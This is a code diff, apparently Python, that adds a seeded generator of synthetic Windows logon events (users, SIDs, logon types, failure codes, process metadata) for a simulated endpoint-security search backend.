+        {"status_id": "0xC000006AL", "message_code": "STATUS_WRONG_PASSWORD", "message_description": "When trying to update a password, this return status indicates that the value provided as the current password is not correct."},
+        {"status_id": "0xC000006DL", "message_code": "STATUS_LOGON_FAILURE", "message_description": "The attempted logon is invalid. This is either due to a bad username or authentication information."},
+        {"status_id": "0xC0000072L", "message_code": "STATUS_ACCOUNT_DISABLED", "message_description": "The referenced account is currently disabled and cannot be logged on to."},
+        {"status_id": "0xC0000106L", "message_code": "STATUS_NAME_TOO_LONG", "message_description": "A specified name string is too long for its intended use."},
+        {"status_id": "0xC000013DL", "message_code": "STATUS_REMOTE_RESOURCES", "message_description": "{Insufficient Resources on Remote Computer} The remote computer has insufficient resources to complete the network request. For instance, there may not be enough memory available on the remote computer to carry out the request at this time."},
+        {"status_id": "0xC0000234L", "message_code": "STATUS_ACCOUNT_LOCKED_OUT", "message_description": "The user account has been automatically locked because too many invalid logon attempts or password change attempts have been requested."},
+    ],
+    "logon_type": {
+        "2": {"title": "Interactive", "description": "A user logged on to this computer."},
+        "3": {"title": "Network", "description": "A user or computer logged on to this computer from the network."},
+        "4": {"title": "Batch", "description": "Batch logon type is used by batch servers, where processes may be executing on behalf of a user without their direct intervention."},
+        "5": {"title": "Service", "description": "A service was started by the Service Control Manager."},
+        "7": {"title": "Unlock", "description": "This workstation was unlocked."},
+        "8": {"title": "NetworkCleartext", "description": "A user logged on to this computer from the network. The user's password was passed to the authentication package in its unhashed form."},
+        "9": {"title": "NewCredentials", "description": "A caller cloned its current token and specified new credentials for outbound connections."},
+        "10": {"title": "RemoteInteractive", "description": "A user logged on to this computer remotely using Terminal Services or Remote Desktop."},
+        "11": {"title": "CachedInteractive", "description": "A user logged on to this computer with network credentials that were stored locally on the computer."},
+    },
+    "auth_event_action": {
+        "ACCOUNT_LOCKED": "A user account was locked out",
+        "LOGOFF_INITIATED": "User initiated logoff",
+        "LOGOFF_SUCCESS": "An account was logged off",
+        "LOGON_DISCOVERED": "Logon session detected",
+        "LOGON_FAILED": "An account failed to log on",
+        "LOGON_SUCCESS": "An account was successfully logged on",
+        "PRIVILEGES_GRANTED": "Special privileges assigned to new logon",
+    },
+}  # fmt: skip
+
+
+@dataclass(frozen=True)
+class _AuthCore:
+    device: int
+    event: int  # index into _AUTH_EVENTS
+    user: str
+    domain: str
+    user_sid: str
+    logon_type: int
+    remote: str
+    remote_ip: str
+    remote_port: int
+    process: int  # 0 lsass, 1 winlogon, 2 svchost
+    t: float
+    h: int
+
+
+_AUTH_PROCS = (
+    ("c:\\windows\\system32\\lsass.exe", "C:\\Windows\\system32\\lsass.exe", "Local Security Authority Process", "wininit.exe", "c:\\windows\\system32\\wininit.exe"),
+    ("c:\\windows\\system32\\winlogon.exe", "winlogon.exe", "Windows Logon Application", "smss.exe", "c:\\windows\\system32\\smss.exe"),
+    ("c:\\windows\\system32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", "Host Process for Windows Services", "services.exe", "c:\\windows\\system32\\services.exe"),
+)  # fmt: skip
+
+
+class AuthEventStore:
+    """Windows authentication events spread over the Windows devices."""
+
+    def __init__(
+        self,
+        endpoints: EndpointPopulation,
+        *,
+        seed: int,
+        count: int,
+        org_key: str,
+        epoch: float,
+        history_days: int,
+    ) -> None:
+        self.endpoints = endpoints
+        self.seed = seed
+        self.org_key = org_key
+        self.epoch = epoch
+        self.history = history_days * 86_400
+        self._windows = [ep.index for ep in endpoints if ep.os_family == "windows"]
+        self.count = count if self._windows else 0
+        self._core: list[_AuthCore] | None = None
+        self._ids: dict[str, int] | None = None
+        self.table = self._table()
+
+    def core(self, i: int) -> _AuthCore:
+        if self._core is None:
+            self._core = [self._make(j) for j in range(self.count)]
+        return self._core[i]
+
+    def _make(self, j: int) -> _AuthCore:
+        h = mix(self.seed, j, 41)
+        device = self._windows[h % len(self._windows)]
+        ep = self.endpoints[device]
+        weights = [(str(n), w) for n, (_, _, w) in enumerate(_AUTH_EVENTS)]
+        event = int(_weighted(weights, h >> 8))
+        event_id = _AUTH_EVENTS[event][0]
+        pick = (h >> 16) % 100
+        local = ep.hostname.upper()
+        if event_id in (4672,) or pick < 30:
+            user, domain, sid = "SYSTEM", "NT AUTHORITY", "S-1-5-18"
+            if _AUTH_EVENTS[event][1] in ("LOGON_FAILED", "ACCOUNT_LOCKED"):
+                event = 0  # the system account does not fail its own logons
+        elif pick < 70:
+            user, domain = ep.username.rsplit("\\", 1)[-1], ep.domain or local
+            sid = f"{ep.computer_sid}-{1100 + ep.index % 900}"
+        elif pick < 80:
+            user, domain, sid = "Administrator", local, f"{ep.computer_sid}-500"
+        elif pick < 90:
+            user, domain = ("svc_backup", "svc_sql", "svc_deploy")[h % 3], "ACME"
+            sid = f"S-1-5-21-3623811015-3361044348-30300820-{2000 + h % 3}"
+        else:
+            user, domain = ("guest", "test", "admin", "scanner")[h % 4], local
+            sid = "S-1-0-0"
+        logon_type = int(_weighted([(str(t), w) for t, w in _LOGON_TYPES], h >> 24))
+        if user == "SYSTEM":
+            logon_type = 5
+        network = logon_type in (3, 10)
+        src = self.endpoints[
+            (device + 1 + (h >> 32) % max(len(self.endpoints) - 1, 1)) % len(self.endpoints)
+        ]
+        remote = src.hostname.upper() if network else "-"
+        remote_ip = src.internal_ip if network else "-"
+        remote_port = (49_152 + (h >> 40) % 16_000) if network else 0
+        process = (
+            1 if logon_type in (2, 7, 11) else (2 if logon_type == 5 and user != "SYSTEM" else 0)
+        )
+        t = self.epoch - 60 - (h >> 20) % max(self.history - 120, 1)
+        return _AuthCore(
+            device,
+            event,
+            user,
+            domain,
+            sid,
+            logon_type,
+            remote,
+            remote_ip,
+            remote_port,
+            process,
+            t,
+            h,
+        )
+
+    def event_id(self, i: int) -> str:
+        return _uuid("auth", self.seed, i).upper()
+
+    def index_of(self, event_id: str) -> int | None:
+        if self._ids is None:
+            self._ids = {self.event_id(i): i for i in range(self.count)}
+        return self._ids.get(str(event_id).upper())
+
+    def _proc_guid(self, i: int, parent: bool = False) -> str:
+        c = self.core(i)
+        ep = self.endpoints[c.device]
+        pid = 608 if parent else (776 + 4 * c.process) + 4 * (c.h % 50)
+        boot = int((self.epoch - ep.uptime + 11_644_473_600) * 10_000_000)
+        return f"{self.org_key}-{ep.device_id & 0xFFFFFFFF:08x}-{pid:08x}-00000000-{boot + (0 if parent else 30_000_000):x}"
+
+    def doc(self, i: int, *, full: bool = False) -> dict[str, Any]:
+        c = self.core(i)
+        ep = self.endpoints[c.device]
+        event_id, action, _ = _AUTH_EVENTS[c.event]
+        path, cmdline, description, parent_name, parent_path = _AUTH_PROCS[c.process]
+        pid = 776 + 4 * c.process + 4 * (c.h % 50)
+        md5 = hashlib.md5(path.encode(), usedforsecurity=False).hexdigest()
+        sha = hashlib.sha256(path.encode()).hexdigest()
+        counts = (c.h >> 3) % 60
+        doc: dict[str, Any] = {
+            "auth_domain_name": c.domain,
+            "auth_event_action": action,
+            "auth_remote_device": c.remote,
+            "auth_remote_port": c.remote_port,
+            "auth_username": c.user,
+            "backend_timestamp": iso(c.t + 60),
+            "childproc_count": 0,
+            "crossproc_count": counts,
+            "device_group_id": 0,
+            "device_id": ep.device_id,
+            "device_name": ep.hostname.lower(),
+            "device_policy_id": ep.policy_id,
+            "device_timestamp": iso(c.t),
+            "event_id": self.event_id(i),
+            "filemod_count": counts % 7,
+            "ingress_time": int((c.t + 75) * 1000),
+            "modload_count": counts % 3,
+            "netconn_count": counts % 40,
+            "org_id": self.org_key,
+            "parent_guid": self._proc_guid(i, parent=True),
+            "parent_pid": 608,
+            "process_guid": self._proc_guid(i),
+            "process_hash": [md5, sha],
+            "process_name": path,
+            "process_pid": [pid],
+            "process_username": ["NT AUTHORITY\\SYSTEM"],
+            "regmod_count": counts % 13,
+            "scriptload_count": 0,
+            "windows_event_id": event_id,
+        }
+        if not full:
+            return doc
+        failed = action in ("LOGON_FAILED", "ACCOUNT_LOCKED")
+        privileged = event_id == 4672 or c.user in ("SYSTEM", "Administrator")
+        doc.update(
+            {
+                "auth_cleartext_credentials_logon": c.logon_type == 8,
+                "auth_daemon_logon": c.logon_type == 5,
+                "auth_elevated_token_logon": privileged,
+                "auth_failed_logon_count": (c.h % 5 + 1) if failed else 0,
+                "auth_failure_reason": _FAILURE_STATUS[c.h % len(_FAILURE_STATUS)]
+                if failed
+                else None,
+                "auth_impersonation_level": "IMPERSONATION_LOCAL_ONLY"
+                if c.logon_type == 5
+                else "IMPERSONATION_INVALID",
+                "auth_interactive_logon": c.logon_type in (2, 7, 10, 11),
+                "auth_key_length": 128 if c.logon_type == 3 else 0,
+                "auth_logon_id": f"00000000-{c.h % 0xFFFFFF:08X}",
+                "auth_logon_type": c.logon_type,
+                "auth_package": "Kerberos"
+                if c.logon_type == 3 and c.domain == "ACME"
+                else ("NTLM" if c.logon_type == 3 else "Negotiate"),
+                "auth_privileges": list(_PRIVILEGES[: 3 + c.h % 7]) if privileged else [],
+                "auth_remote_ipv4": c.remote_ip,
+                "auth_remote_logon": c.logon_type in (3, 10),
+                "auth_restricted_admin_logon": False,
+                "auth_user_id": c.user_sid,
+                "auth_virtual_account_logon": False,
+                "device_external_ip": ep.external_ip,
+                "device_installed_by": f"{ep.domain or ep.hostname}\\Administrator",
+                "device_internal_ip": ep.internal_ip,
+                "device_location": "OFFSITE" if ep.index % 4 == 1 else "ONSITE",
+                "device_os": "WINDOWS",
+                "device_os_version": ep.cloud_os_version,
+                "device_policy": ep.policy_name,
+                "device_sensor_version": ep.cloud_sensor_version,
+                "device_target_priority": "HIGH" if ep.host_type != "workstation" else "MEDIUM",
+                "document_guid": f"{stable('doc', self.seed, i):022x}"[:22],
+                "parent_cmdline": parent_name,
+                "parent_cmdline_length": len(parent_name),
+                "parent_effective_reputation": "TRUSTED_WHITE_LIST",
+                "parent_effective_reputation_source": "IGNORE",
+                "parent_hash": [
+                    hashlib.md5(parent_path.encode(), usedforsecurity=False).hexdigest(),
+                    hashlib.sha256(parent_path.encode()).hexdigest(),
+                ],
+                "parent_name": parent_path,
+                "parent_publisher": ["Microsoft Windows Publisher"],
+                "parent_publisher_state": [
+                    "FILE_SIGNATURE_STATE_VERIFIED",
+                    "FILE_SIGNATURE_STATE_OS",
+                    "FILE_SIGNATURE_STATE_TRUSTED",
+                    "FILE_SIGNATURE_STATE_SIGNED",
+                ],
+                "parent_reputation": "TRUSTED_WHITE_LIST",
+                "process_cmdline": [cmdline],
+                "process_cmdline_length": [len(cmdline)],
+                "process_company_name": "Microsoft Corporation",
+                "process_effective_reputation": "TRUSTED_WHITE_LIST",
+                "process_effective_reputation_source": "IGNORE",
+                "process_elevated": True,
+                "process_file_description": description,
+                "process_integrity_level": "SYSTEM",
+                "process_internal_name": path.rsplit("\\", 1)[-1],
+                "process_original_filename": path.rsplit("\\", 1)[-1],
+                "process_privileges": list(_PRIVILEGES[:6]),
+                "process_product_name": "Microsoft\u00ae Windows\u00ae Operating System",
+                "process_product_version": "10.0.19041.906",
+                "process_publisher": ["Microsoft Windows Publisher"],
+                "process_publisher_state": [
+                    "FILE_SIGNATURE_STATE_VERIFIED",
+                    "FILE_SIGNATURE_STATE_OS",
+                    "FILE_SIGNATURE_STATE_TRUSTED",
+                    "FILE_SIGNATURE_STATE_SIGNED",
+                ],
+                "process_reputation": "TRUSTED_WHITE_LIST",
+                "process_sha256": sha,
+                "process_start_time": iso(self.epoch - ep.uptime + 3),
+            }
+        )
+        return doc
+
+    def project(self, i: int, fields: Sequence[str] | None) -> dict[str, Any]:
+        wanted = [f for f in (fields or ["*"]) if f != "*"]
+        if not wanted:
+            return self.doc(i)
+        full = self.doc(i, full=True)
+        keep = set(AUTH_SEARCH_FIELDS) | set(wanted)
+        return {k: v for k, v in full.items() if k in keep}
+
+    def _table(self) -> Table:
+        def c(attr: str) -> Getter:
+            return lambda i: getattr(self.core(i), attr)
+
+        def full(name: str) -> Getter:
+            return lambda i: self.doc(i, full=True).get(name)
+
+        eps = self.endpoints
+        cols: dict[str, Column] = {
+            "auth_username": c("user"),
+            "auth_domain_name": c("domain"),
+            "auth_user_id": c("user_sid"),
+            "auth_logon_type": c("logon_type"),
+            "auth_remote_device": c("remote"),
+            "auth_remote_ipv4": c("remote_ip"),
+            "auth_remote_port": c("remote_port"),
+            "auth_event_action": lambda i: _AUTH_EVENTS[self.core(i).event][1],
+            "windows_event_id": lambda i: _AUTH_EVENTS[self.core(i).event][0],
+            "auth_interactive_logon": lambda i: self.core(i).logon_type in (2, 7, 10, 11),
+            "auth_remote_logon": lambda i: self.core(i).logon_type in (3, 10),
+            "auth_daemon_logon": lambda i: self.core(i).logon_type == 5,
+            "device_id": lambda i: eps[self.core(i).device].device_id,
+            "device_name": lambda i: eps[self.core(i).device].hostname.lower(),
+            "device_policy_id": lambda i: eps[self.core(i).device].policy_id,
+            "device_policy": lambda i: eps[self.core(i).device].policy_name,
+            "device_os_version": lambda i: eps[self.core(i).device].cloud_os_version,
+            "device_group_id": lambda i: 0,
+            "device_timestamp": c("t"),
+            "backend_timestamp": lambda i: self.core(i).t + 60,
+            "ingress_time": lambda i: int((self.core(i).t + 75) * 1000),
+            "event_id": self.event_id,
+            "org_id": lambda i: self.org_key,
+            "process_name": lambda i: _AUTH_PROCS[self.core(i).process][0],
+            "parent_name": lambda i: _AUTH_PROCS[self.core(i).process][4],
+            "process_guid": self._proc_guid,
+            "parent_guid": lambda i: self._proc_guid(i, parent=True),
+            "parent_pid": lambda i: 608,
+            "process_pid": lambda i: [776 + 4 * self.core(i).process + 4 * (self.core(i).h % 50)],
+            "process_username": lambda i: ["NT AUTHORITY\\SYSTEM"],
+            "auth_privileges": full("auth_privileges"),
+            "auth_logon_id": full("auth_logon_id"),
+            "auth_package": full("auth_package"),
+            "auth_failed_logon_count": full("auth_failed_logon_count"),
+            "auth_elevated_token_logon": full("auth_elevated_token_logon"),
+            "process_hash": full("process_hash"),
+        }
+        for name in (
+            "childproc_count",
+            "crossproc_count",
+            "filemod_count",
+            "modload_count",
+            "netconn_count",
+            "regmod_count",
+            "scriptload_count",
+        ):
+            cols[name] = (lambda n: lambda i: self.doc(i)[n])(name)
+        schema: dict[str, FieldType] = dict.fromkeys(cols, "keyword")
+        schema.update(
+            {
+                "process_name": "text",
+                "parent_name": "text",
+                "auth_logon_type": "number",
+                "auth_remote_port": "number",
+                "windows_event_id": "number",
+                "device_id": "number",
+                "device_policy_id": "number",
+                "device_group_id": "number",
+                "parent_pid": "number",
+                "process_pid": "number",
+                "auth_failed_logon_count": "number",
+                "ingress_time": "number",
+                "auth_interactive_logon": "bool",
+                "auth_remote_logon": "bool",
+                "auth_daemon_logon": "bool",
+                "auth_elevated_token_logon": "bool",
+                "auth_remote_ipv4": "ip",
+                "device_timestamp": "date",
+                "backend_timestamp": "date",
+            }
+        )
+        return Table(
+            count=lambda: self.count,
+            columns=cols,
+            schema=schema,
+            default_fields=("auth_username", "device_name", "process_name", "auth_domain_name"),
+            time_field="device_timestamp",
+            time_criteria=frozenset({"device_timestamp", "backend_timestamp"}),
+        )
+
+    def fields(self) -> list[str]:
+        """Every field a detail document has (for suggestions)."""
+        return sorted(self.doc(0, full=True)) if self.count else list(AUTH_SEARCH_FIELDS)
